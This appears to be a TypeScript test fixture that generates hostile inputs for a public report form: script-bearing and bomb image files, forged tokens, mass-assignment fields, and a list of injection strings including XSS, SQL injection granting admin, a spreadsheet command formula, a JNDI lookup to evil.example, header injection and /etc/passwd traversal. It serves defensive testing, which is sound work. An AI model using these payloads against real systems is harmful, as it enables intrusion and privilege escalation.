import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import * as fc from 'fast-check';

/** What somebody hostile sends to the public form. Made from a seed: the same run after run. */
const SEED = 20261121;

export const PHOTO = new Uint8Array(
  readFileSync(fileURLToPath(new URL('../../e2e/fixtures/parking-brake.jpg', import.meta.url))),
);
const text = (chars: string) => Uint8Array.from(chars, char => char.charCodeAt(0) & 0xff);
const join = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap(part => [...part]));
const word = (value: number) => new Uint8Array([value >>> 24, value >>> 16, value >>> 8, value]);
const chunk = (type: string, data: Uint8Array) => join(word(data.length), text(type), data, word(0));

/** 60,000 × 60,000 px in a hundred bytes: 14 GB once it is drawn. */
const BOMB = join(
  text('\x89PNG\r\n\x1a\n'),
  chunk('IHDR', join(word(60_000), word(60_000), new Uint8Array([8, 6, 0, 0, 0]))),
  chunk('IDAT', new Uint8Array(20)),
  chunk('IEND', new Uint8Array(0)),
);

/** Bytes that are announced truthfully and are no photo all the same; each stays below what may be announced. */
export const BAD_PHOTOS: Record<string, Uint8Array> = {
  page: text('<!doctype html><script>alert(document.domain)</script>'),
  'drawing with a script': text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'page that begins as a JPEG': text('\xff\xd8\xff\xe0<html><script>alert(1)</script>'),
  'photo that is an archive too': join(PHOTO, text('PK\x03\x04evil.exe')),
  'photo with a page behind it': join(PHOTO, text('<script>alert(1)</script>')),
  'half a photo': PHOTO.subarray(0, PHOTO.length >> 1),
  'decompression bomb': BOMB,
  program: text('MZ\x90\x00\x03'),
  document: text('%PDF-1.7 /JavaScript'),
  'moving picture': text('GIF89a\x01\x00\x01\x00\x80\x00\x00'),
  'a single byte': new Uint8Array([0]),
};

export const announce = (bytes: Uint8Array) => ({
  bytes: bytes.byteLength,
  sha256: createHash('sha256').update(bytes).digest('hex'),
});

const hex = fc.stringMatching(/^[0-9a-f]{64}$/);

/** Tokens that open nothing: guessed, cut off, decorated, of another kind. */
export const badTokens = (real: string): fc.Arbitrary<unknown> =>
  fc.oneof(
    hex,
    fc.nat(63).map(at => real.slice(0, at)),
    fc.nat(63).map(at => real.slice(0, at) + (real[at] === '0' ? '1' : '0') + real.slice(at + 1)),
    fc.constantFrom(
      real.toUpperCase().replaceAll(/[0-9]/g, ''),
      ` ${real}`,
      `${real}\n`,
      `${real}%00`,
      `../${real}`,
      '',
      '%',
      '*',
    ),
    fc.constantFrom(`' or '1'='1`, `${real}' --`, `${real}; drop table issue_reports`, '{}', '\u0001'.repeat(50)),
    fc.constantFrom(null, 0, [], {}),
    fc.string({ maxLength: 300 }),
  );

/** Keys no phone of ours makes. */
export const badKeys: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    null,
    '',
    0,
    [],
    {},
    '..',
    '../../etc/passwd',
    'a'.repeat(63),
    'a'.repeat(65),
    'A'.repeat(64),
    'g'.repeat(64),
  ),
  fc.string({ maxLength: 200 }).filter(key => !/^[0-9a-f]{64}$/.test(key)),
);

type Body = Record<string, unknown>;

const COLUMNS =
  'id organization_id site_id asset_id reported_by decided_by status answer media_ids source reference scopes version deleted_at is_anonymous title constructor code_id'.split(
    ' ',
  );

/** What is added to a report to reach further than it may. `ids` are of rows somebody else owns. */
const surplus = (ids: Record<string, string>): fc.Arbitrary<Body> =>
  fc
    .tuple(
      fc.constantFrom(...COLUMNS),
      fc.constantFrom<unknown>(...Object.values(ids), 'closed', null, [], {}, true, 1),
    )
    .map(([key, value]) => ({ [key]: value }));

const wrongly = (field: string, ...values: unknown[]): fc.Arbitrary<Body> =>
  fc.constantFrom(...values).map(value => ({ [field]: value }));

const photo = announce(PHOTO);

const badAnnouncements: readonly unknown[] = [
  ...[0, -1, 1.5, 1e30, 8_000_001, '3', null, Number.MAX_SAFE_INTEGER].map(bytes => [{ ...photo, bytes }]),
  ...['', 'x', '../../../etc/passwd', 'A'.repeat(64), null, 7].map(sha256 => [{ ...photo, sha256 }]),
  null,
  {},
  'x',
  5,
  [null],
  [[]],
  ['../../x'],
  Array.from({ length: 6 }, () => photo),
  [{ ...photo, mime: 'text/html' }],
  [{ bytes: 3 }],
  [{ sha256: photo.sha256 }],
  [{ ...photo, name: '../../media/other' }],
];

/** A change that makes a good report a bad one. */
export const badBodies = (ids: Record<string, string>, usedHash: string): fc.Arbitrary<Body> =>
  fc.oneof(
    { weight: 3, arbitrary: surplus(ids) },
    wrongly('text', '', ' \n\t ', null, 0, [], {}, 'x'.repeat(4001), '\u202e\u0007', '𝄞'.repeat(4001), ['x'], {
      text: 'x',
    }),
    wrongly('severity', '', 'CRITICAL', 'safety', null, 4, ['low'], `low' or 1=1`),
    wrongly('name', 1, [], {}, 'x'.repeat(101), true),
    wrongly('contact', 1, [], {}, 'x'.repeat(201), false),
    wrongly('look_up_hash', '', null, 'a'.repeat(63), 'A'.repeat(64), '../', 0, usedHash),
    wrongly(
      'reported_at',
      '',
      null,
      'now',
      'infinity',
      '-infinity',
      '2026-13-45T99:99:99Z',
      '2026-02-30T10:00:00Z',
      0,
      '294277-01-01T00:00:00Z',
    ),
    wrongly('photos', ...badAnnouncements),
  );

/** Words that are meant to be run by somebody: as a page, a formula, a statement, a template, a log line. */
export const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  `'; drop table issue_reports; --`,
  `\\'; update organization_members set role = 'admin'; --`,
  '=cmd|"/c calc"!A1',
  '@SUM(1+9)*cmd',
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aSet-Cookie: a=b',
  'line one\r\nBcc: everybody@evil.example',
  '\u202egnp.exe',
  '\u0000'.replace('\u0000', '\u0001'),
  'x',
].map(words => `Report ${words}`);

export const sample = <A>(values: fc.Arbitrary<A>, count: number): A[] =>
  fc.sample(values, { seed: SEED, numRuns: count });
